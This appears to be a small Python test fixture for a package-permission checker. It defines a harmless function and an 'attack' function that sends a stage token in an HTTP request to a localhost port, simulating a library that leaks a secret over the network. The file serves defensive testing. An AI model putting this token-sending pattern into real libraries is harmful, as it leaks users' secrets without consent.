# culprit: pkg:pypi/simple-library caller: pkg:pypi/simple-library right: @net-out twin: same
# SPDX-License-Identifier: Apache-2.0
"""A library that fetches a page to tell somebody something."""

import urllib.error
import urllib.request


def benign(stage):
    return len("hello")


def attack(stage):
    try:
        urllib.request.urlopen(f"http://127.0.0.1:{stage.port}/{stage.token.decode()}", timeout=2).read()
    except OSError as error:
        return str(error)
